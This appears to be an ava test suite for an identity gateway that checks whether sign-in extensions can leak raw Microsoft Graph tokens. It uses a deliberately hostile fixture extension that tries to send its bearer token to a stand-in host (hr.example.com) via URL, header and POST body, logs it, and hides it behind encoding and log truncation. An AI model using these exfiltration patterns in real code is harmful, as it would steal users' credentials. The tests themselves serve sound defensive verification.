import test from 'ava';

import { startWorld, writeExtension } from '../_support/world.ts';

const GRAPH = 'https://graph.microsoft.com';
const RAW = { resource: GRAPH, allow: ['GET /v1.0/me'], expose: 'raw' };

/** Says of what its token is made, uses it, and tries to carry it away. */
const HOLDER = `
export default {
  async decide(signIn, ctx) {
    const token = ctx.token('${GRAPH}');
    const used = await fetch('${GRAPH}/v1.0/me', { headers: { authorization: \`Bearer \${token}\` } });
    const attempts = [
      () => fetch('https://hr.example.com/v2/' + token),
      () => fetch('https://hr.example.com/v2/x', { headers: { 'x-token': token } }),
      () => fetch('https://hr.example.com/v2/x', { method: 'POST', body: token }),
      () => fetch('https://hr.example.com/v2/x', { headers: { authorization: \`Bearer \${token}\` } }),
    ];
    const codes = [];
    for (const attempt of attempts) await attempt().then(() => codes.push('sent'), (error) => codes.push(error.cause?.code ?? error.code ?? 'failed'));
    console.log('my token is', token);
    return { decision: 'deny', code: token.startsWith('eyJ') && used.status === 200 ? 'held' : 'not-held', reason: codes.join(' ') };
  },
};`;

const HR = { origin: 'https://hr.example.com', allow: ['GET /v2/*', 'POST /v2/*'] };

test('a raw token is held where both sides ask for it, in a runner of its own, and audited', async (t) => {
  const source = writeExtension(t, 'holder', HOLDER, { requests: { tokens: [RAW], fetch: [HR] } });
  const allow = "export default { decide: () => ({ decision: 'allow' }) };";
  const neighbour = writeExtension(t, 'neighbour', allow);
  const world = await startWorld(t, {
    extensions: [{ source, grant: { tokens: [RAW], fetch: [HR] } }, { source: neighbour }],
  });
  t.is(world.gateway.runners.length, 2, 'one shared runner, one of its own');
  const { record } = await world.signIn('jane@contoso.example');
  t.is(record.denial, 'held');
  const audit = world.lines
    .filter((line) => line.includes('raw_token_exposed'))
    .map((line) => JSON.parse(line));
  t.like(audit, [{ level: 'warn', extension: 'holder', resource: GRAPH, signIn: record.id }]);
});

test('a raw token is refused everywhere but in the header of a granted request', async (t) => {
  const source = writeExtension(t, 'holder', HOLDER, { requests: { tokens: [RAW], fetch: [HR] } });
  const world = await startWorld(t, {
    extensions: [{ source, grant: { tokens: [RAW], fetch: [HR] } }],
  });
  const { record } = await world.signIn('jane@contoso.example');
  t.deepEqual(
    record.extensions[0]?.hostCalls.map(({ status, code }) => status ?? code),
    [200, 'TOKEN_MISPLACED', 'TOKEN_MISPLACED', 'TOKEN_MISPLACED', 'TOKEN_DESTINATION_REFUSED'],
  );
});

test('a raw token that an extension returns is masked in the session and on the page', async (t) => {
  const code = `export default { enrich: (signIn, ctx) => {
    const token = ctx.token('${GRAPH}');
    return { claims: { plain: token, encoded: btoa('x' + token) } };
  } };`;
  const enrich = { claims: ['plain', 'encoded'] };
  const source = writeExtension(t, 'leaking', code, { requests: { tokens: [RAW], enrich } });
  const world = await startWorld(t, { extensions: [{ source, grant: { tokens: [RAW], enrich } }] });
  const { record, page } = await world.signIn('jane@contoso.example');
  t.is(record.principal?.claims['plain'], '[secret]');
  t.notRegex(JSON.stringify(record) + page.html, /eyJ[\w-]{10,}|ZXlK/);
});

test('a raw token that an extension prints or sends is masked in the log and in the record', async (t) => {
  const source = writeExtension(t, 'holder', HOLDER, { requests: { tokens: [RAW], fetch: [HR] } });
  const world = await startWorld(t, {
    extensions: [{ source, grant: { tokens: [RAW], fetch: [HR] } }],
  });
  const { record, page } = await world.signIn('jane@contoso.example');
  const everything = world.lines.join('') + JSON.stringify(record) + page.html;
  t.true(everything.includes('my token is [secret]'));
  t.notRegex(everything, /eyJ[\w-]{10,}/);
});

test('of a raw token that the end of a line cuts off nothing is in the log', async (t) => {
  const code = `export default { decide(signIn, ctx) {
    const token = ctx.token('${GRAPH}');
    console.log('x'.repeat(2048 - token.length + 1) + token);
    throw new Error('y'.repeat(600) + token);
  } };`;
  const source = writeExtension(t, 'holder', code, { requests: { tokens: [RAW] } });
  const world = await startWorld(t, { extensions: [{ source, grant: { tokens: [RAW] } }] });
  const { record, page } = await world.signIn('jane@contoso.example');
  const everything = world.lines.join('') + JSON.stringify(record) + page.html;
  t.regex(everything, /x\[secret\]/);
  t.regex(everything, /y{600}\[secret\]/);
  t.notRegex(everything, /eyJ[\w-]{10,}/);
});

for (const [side, asked, given] of [
  ['manifest', 'handle', 'raw'],
  ['operator', 'raw', 'handle'],
] as const) {
  test(`a token stays a stand-in when only the other side than the ${side} asks for it raw`, async (t) => {
    const source = writeExtension(t, 'holder', HOLDER, {
      requests: { tokens: [{ ...RAW, expose: asked }], fetch: [HR] },
    });
    const grant = { tokens: [{ ...RAW, expose: given }], fetch: [HR] };
    const world = await startWorld(t, { extensions: [{ source, grant }] });
    t.is(world.gateway.runners.length, 1);
    const { record } = await world.signIn('jane@contoso.example');
    t.is(record.denial, 'not-held');
    t.false(world.lines.some((line) => line.includes('raw_token_exposed')));
  });
}
